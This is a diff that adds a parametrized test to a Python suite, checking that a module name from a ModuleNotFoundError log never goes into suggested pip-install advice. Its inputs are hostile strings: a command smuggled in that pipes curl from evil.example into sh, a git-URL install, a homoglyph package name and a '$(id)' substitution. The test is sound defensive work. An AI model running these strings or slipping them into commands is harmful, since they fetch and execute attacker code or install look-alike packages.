@@ -116,3 +116,14 @@ def test_the_advice_about_a_missing_module_names_it() -> None:
     )
     assert advice_with_module(missing) == "`pip install a`; HOSTNAME"
     assert advice_with_module(replace(missing, what_failed="KeyError: 'a'")) == missing.advice
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["-e git+https://evil.example/x", "x; curl evil.example | sh", "nump\u0443", "a" * 41, "", "a.$(id)"],
+)
+def test_a_name_that_no_module_has_never_stands_in_a_command(name: str) -> None:
+    found = proved_by(f"ModuleNotFoundError: No module named '{name}'")
+    found = replace(found, advice="Run `python -m pip install NAME`.", what_failed=what_failed_in_log(found))
+    assert found.what_failed == f"No module named '{name}'"  # as what the log says
+    assert advice_with_module(found) == found.advice
